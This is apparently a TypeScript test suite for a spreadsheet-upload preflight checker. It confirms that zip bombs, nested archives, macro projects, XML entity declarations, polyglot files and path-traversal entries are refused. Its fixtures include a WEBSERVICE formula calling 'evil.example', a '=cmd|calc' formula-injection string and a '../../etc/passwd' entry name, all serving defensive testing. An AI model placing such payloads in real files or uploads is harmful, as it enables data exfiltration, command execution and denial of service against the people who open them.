import { readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { Refusal } from '#platform/errors';
import { preflight, zipLimits } from './preflight.ts';
import { readSheets, readSpreadsheet } from './read-file.ts';
import { rowsOfFile } from '../rows.ts';
import { adult, sheetOf } from '../sheet.testing.ts';
import { makeZip, workbook, type MadeEntry } from '#given/platform/zip';

const legacyFile = readFileSync(join(import.meta.dirname, '../fixtures/thirty-candidates.xls'));
const sheet = 'xl/worksheets/sheet1.xml';
const today = '2026-11-20';

async function verdict(file: Buffer): Promise<string> {
  try {
    rowsOfFile(await readSheets(file), { limit: 500, today });
    return 'read';
  } catch (error) {
    if (error instanceof Refusal) return error.code;
    throw error;
  }
}

function changed(name: string, change: Partial<MadeEntry>): MadeEntry[] {
  return workbook('').map((entry) => (entry.name === name ? { ...entry, ...change } : entry));
}

const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024, 0x20);
const texts = (count: number) =>
  `<sst>${Array.from({ length: count }, (_, at) => `<si><t>${(at * 104_729) % 99_991}${at}</t></si>`).join('')}</sst>`;
const emptyRows = (count: number) => Array.from({ length: count }, (_, at) => `<row r="${at + 1}"/>`).join('');
const wideRow = `<row r="1">${Array.from({ length: 16_384 }, () => '<c t="inlineStr"><is><t>a</t></is></c>').join('')}</row>`;
const nested = makeZip([{ name: 'a', content: 'b' }]);

describe('a hostile file', () => {
  it.each<[string, () => Buffer, string, number]>([
    ['one entry of 400 MB', () => makeZip(changed(sheet, { content: zeros(400) })), 'format', 0],
    [
      'a bomb that says it is small',
      () => makeZip(changed(sheet, { content: zeros(40), says: 1000 })),
      'format',
      4_000,
    ],
    [
      'a bomb in four',
      () => makeZip([...workbook(''), ...[1, 2, 3, 4].map((n) => ({ name: `xl/${n}.xml`, content: zeros(10) }))]),
      'format',
      0,
    ],
    [
      '10,000 entries',
      () =>
        makeZip([...workbook(''), ...Array.from({ length: 10_000 }, (_, n) => ({ name: `xl/${n}.xml`, content: '' }))]),
      'format',
      0,
    ],
    ['entries one over the other', () => makeZip(changed(sheet, { at: 0 })), 'format', 0],
    ['the same name twice', () => makeZip([...workbook(''), { name: sheet, content: '' }]), 'format', 0],
    ['an encrypted entry', () => makeZip(changed(sheet, { flags: 1 })), 'format', 0],
    [
      '500,000 texts that no cell shows',
      () => makeZip(workbook('', [{ name: 'xl/sharedStrings.xml', content: texts(500_000) }])),
      'cells: 500000',
      zipLimits.bytes,
    ],
    ['1,048,576 empty rows', () => makeZip(workbook(emptyRows(1_048_576))), 'formats: 1048576', zipLimits.bytes],
    ['an archive by its name', () => makeZip(workbook('', [{ name: 'xl/more.zip', content: nested }])), 'format', 0],
    [
      'an archive by its content',
      () => makeZip(workbook('', [{ name: 'xl/image.png', content: nested }])),
      'format',
      4_000,
    ],
    ['a program', () => makeZip(workbook('', [{ name: 'xl/vbaProject.bin', content: 'x' }])), 'format', 0],
    [
      'a document type',
      () => makeZip(changed(sheet, { content: '<!DOCTYPE a [<!ENTITY b "c">]><worksheet/>' })),
      'format',
      4_000,
    ],
    [
      'a document type in UTF-16',
      () => makeZip(changed(sheet, { content: Buffer.from('\ufeff<!DOCTYPE a>', 'utf16le') })),
      'format',
      4_000,
    ],
    [
      'a file with another after it',
      () => Buffer.concat([makeZip(workbook('')), Buffer.from('%PDF-1.7')]),
      'format',
      0,
    ],
    ['a file with another before it', () => Buffer.concat([Buffer.from('GIF89a'), makeZip(workbook(''))]), 'format', 0],
    [
      'a path out of the archive',
      () => makeZip(workbook('', [{ name: '../../etc/passwd', content: 'x' }])),
      'format',
      0,
    ],
  ])(
    '%s is refused before a parser sees it [T20 S-4 ASVS-1.5.1 ASVS-5.2.3 ASVS-5.3.3]',
    async (_what, make, expected, bytes) => {
      const seen = await preflight(make());
      const { verdict: said } = seen;
      expect(typeof said === 'string' ? said : `${said.what}: ${said.found}`).toBe(expected);
      expect(seen.bytes).toBeLessThanOrEqual(bytes);
    },
  );

  it('with 16,384 columns is too much [T20]', async () => {
    expect(await verdict(makeZip(workbook(wideRow)))).toBe('IMPORT_TOO_MUCH');
  });

  it.each([
    ['a picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')],
    ['nothing', Buffer.alloc(0)],
    ['a compound file without a workbook', Buffer.concat([legacyFile.subarray(0, 512), Buffer.alloc(2048)])],
    ['an xls cut short', legacyFile.subarray(0, 5000)],
  ])('that is %s under the name of a spreadsheet is refused [R-38 ASVS-5.2.2]', async (_what, file) => {
    expect(await verdict(file)).toBe('IMPORT_FORMAT');
  });

  it('has its formulas read as the values it remembers, and text that looks like one as text [T20 R-38]', async () => {
    const cells =
      '<c r="A1" t="str"><f>WEBSERVICE("http://evil.example")</f><v>kept</v></c><c r="B1" t="inlineStr"><is><t>=cmd|calc</t></is></c>';
    expect(await readSpreadsheet(makeZip(workbook(`<row r="1">${cells}</row>`)))).toEqual([['kept', '=cmd|calc']]);
  });

  it('leaves no file behind [T31]', async () => {
    const before = readdirSync(tmpdir()).filter((name) => !name.startsWith('bash'));
    await verdict(await sheetOf([adult]));
    await verdict(legacyFile);
    const left = readdirSync(tmpdir()).filter(
      (name) => !before.includes(name) && /xls|sheet|import|candidate/i.test(name),
    );
    expect(left).toEqual([]);
  });
});

describe('a sheet', () => {
  it('with any cells is checked without a fault [R-38]', () => {
    const date = fc.record({ date: fc.option(fc.constant('2014-05-06')), serial: fc.option(fc.double()) });
    const error = fc.record({ error: fc.string() });
    const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.double(), fc.constant(null), date, error);
    fc.assert(
      fc.property(fc.array(fc.array(cell, { maxLength: 14 }), { maxLength: 6 }), (rows) => {
        const headings = [
          'Surname (pinyin)',
          'Given name (pinyin; - for none)',
          'ID number',
          'ID type',
          'Gender',
          'Date of birth (yyyy-mm-dd)',
          'Mobile',
        ];
        try {
          const file = [
            {
              name: 's',
              isHidden: false,
              lastRow: rows.length + 1,
              lastColumn: 14,
              rows: [headings, ...rows],
              hiddenRows: [],
            },
          ];
          expect(rowsOfFile(file, { limit: 500, today }).rows.length).toBeLessThanOrEqual(rows.length);
        } catch (error) {
          expect(error).toBeInstanceOf(Refusal);
        }
      }),
      { numRuns: 300 },
    );
  });
});
